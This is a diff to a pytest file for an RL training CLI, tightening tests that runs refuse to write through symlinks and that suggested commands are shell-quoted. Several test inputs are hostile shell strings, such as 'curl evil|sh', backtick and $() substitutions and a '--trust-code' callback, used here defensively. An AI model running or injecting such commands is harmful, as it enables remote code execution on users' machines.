@@ -289,10 +289,7 @@ def test_cells_beyond_the_header_are_ignored(tmp_path: Path) -> None:
 # ------------------------------------------------------------------------------------------------- plots
 
 
-FORMULAS = (r"a$x^{2}_\frac{1}$", r"$\undefined{$", "$$", r"\$1$ $2")
-
-
-@pytest.mark.parametrize("name", FORMULAS)
+@pytest.mark.parametrize("name", [r"a$x^{2}_\frac{1}$", r"$\undefined{$", "$$", r"\$1$ $2"])
 def test_formulas_are_plotted_as_text(rlher, make_run: Make, name: str) -> None:
     for seed in range(2):
         strategy = {"goal_selection_strategy": name}
@@ -369,13 +366,26 @@ def test_simulators_use_no_files_of_the_current_folder(tmp_path: Path, monkeypat
         make_env(EnvConfig("PandaReach-v3")).close()
 
 
-@pytest.mark.parametrize("link", ["logs/optuna", "logs/optuna/s"])
-def test_no_study_is_written_through_a_link_below_logs(rlher, link: str) -> None:
-    (victim := Path("victim").absolute()).mkdir()
-    Path(link).parent.mkdir(parents=True)
-    Path(link).symlink_to(victim)
-    done = rlher("optimize", "algo=dqn", "env=BitFlipping-v0", "study_name=s", "total_timesteps=30", "--n-trials", "1")
-    assert (done.code, list(victim.iterdir())) == (2, [])
+@pytest.mark.parametrize(
+    ("path", "code"),
+    [
+        *((f"optuna{below}", 2) for below in ("", "/s", "/s/trials", "/s/reruns", "/s/workers", "/s/journal.log")),
+        ("optuna/s/trials/0", 1),
+        ("optuna/s/workers/s-{}.log", 1),  # of a trial that is repeated twice
+    ],
+)
+def test_no_study_is_written_through_a_link_below_logs(rlher, tmp_path: Path, path: str, code: int) -> None:
+    victim = tmp_path / "victim"
+    if path.endswith(".log"):
+        victim.write_text("mine")
+    else:
+        victim.mkdir()
+    for number in range(3):
+        link(tmp_path / "logs" / path.format(number), victim)
+    bits = ("algo=dqn", "env=BitFlipping-v0", "env.kwargs.n_bits=3", "total_timesteps=30", "recipe=null")
+    done = rlher("optimize", *bits, "study_name=s", "--n-trials", "1")
+    assert done.code == code
+    assert victim.read_text() == "mine" if victim.is_file() else not list(victim.iterdir())
 
 
 @pytest.mark.parametrize("name", ["study.db", "study.db-journal", "study.db-wal"])
@@ -407,21 +417,6 @@ def test_the_output_of_a_job_goes_to_a_file_of_its_own(tmp_path: Path, make: Cal
     assert victim.read_text() == "mine"
 
 
-def test_no_trial_is_written_through_a_link(rlher, tmp_path: Path) -> None:
-    (victim := tmp_path / "victim").mkdir()
-    tiny = (
-        "algo=dqn",
-        "env=BitFlipping-v0",
-        "env.kwargs.n_bits=3",
-        "total_timesteps=30",
-        "recipe=null",
-        "study_name=s",
-    )
-    link(tmp_path / "here/logs/optuna/s/trials/0", victim)
-    assert rlher("optimize", *tiny, "logs=here/logs", "--n-trials", "1").code != 0
-    assert list(victim.iterdir()) == []
-
-
 def test_sqlite_deletes_no_file_that_a_journal_names(tmp_path: Path) -> None:
     open_storage(url := f"sqlite:///{tmp_path}/study.db", tmp_path)
     (victim := tmp_path / "victim").touch()
@@ -443,24 +438,22 @@ def test_messages_are_escaped_where_python_prints_them(make_run: Make) -> None:
     assert str(raised.value).isprintable()
 
 
-def test_commands_to_copy_do_not_trust_code() -> None:
-    lines = ["rlher train --resume . --trust-code 'callbacks=[evil:X]'", "rlher enjoy . +trust_code=true", "sh -c x"]
-    lines.append("rlher train logs=trusted")
-    expected = ["rlher train --resume . 'callbacks=[evil:X]'", "rlher enjoy .", "rlher train logs=trusted"]
-    assert commands("\n".join(lines)) == expected
-
-
-def test_output_of_jobs_is_not_written_through_links(rlher, tmp_path: Path) -> None:
-    victim = tmp_path / "victim"
-    victim.write_text("mine")
-    tiny = ("algo=dqn", "env=BitFlipping-v0", "env.kwargs.n_bits=3", "total_timesteps=30", "recipe=null")
-    study = tmp_path / "here/logs/optuna/s"
-    study.mkdir(parents=True)
-    (study / "journal.log").symlink_to(victim)
-    assert rlher("optimize", *tiny, "study_name=s", "logs=here/logs", "--n-trials", "1").code == 2
-    (study / "journal.log").unlink()
-    (study / "workers").mkdir()
-    for number in range(3):
-        (study / f"workers/s-{number}.log").symlink_to(victim)
-    assert rlher("optimize", *tiny, "study_name=s", "logs=here/logs", "--n-trials", "1").code != 0
-    assert victim.read_text() == "mine"
+@pytest.mark.parametrize(
+    ("typed", "expected"),
+    [
+        ("rlher train algo=sac seed=3", ["rlher train algo=sac seed=3"]),
+        ("rlher train seed=3\nrlher train --resume a", ["rlher train seed=3", "rlher train --resume a"]),
+        ("rlher train seed=3; curl evil|sh", ["rlher train 'seed=3;' curl 'evil|sh'"]),
+        ("rlher train seed=3 `curl evil` $(evil)", ["rlher train seed=3 '`curl' 'evil`' '$(evil)'"]),
+        ("curl evil|sh\nrlher train seed=3\ncurl evil|sh", ["rlher train seed=3"]),
+        ("rlher-evil train\n;rlher train\n'rlher train'\n\n", []),
+        ("rlher train \x1b[201~ seed=3", []),
+        ("rlher train 'seed=3", []),
+        ("rlher train --resume . --trust-code 'callbacks=[evil:X]'", ["rlher train --resume . 'callbacks=[evil:X]'"]),
+        ("rlher enjoy . +trust_code=true", ["rlher enjoy ."]),
+        ("rlher train logs=trusted", ["rlher train logs=trusted"]),
+    ],
+)
+def test_commands_to_copy_do_not_trust_code(typed: str, expected: list[str]) -> None:
+    """Only commands of rlher are shown, quoted for a shell."""
+    assert commands(f"{typed}\n") == expected
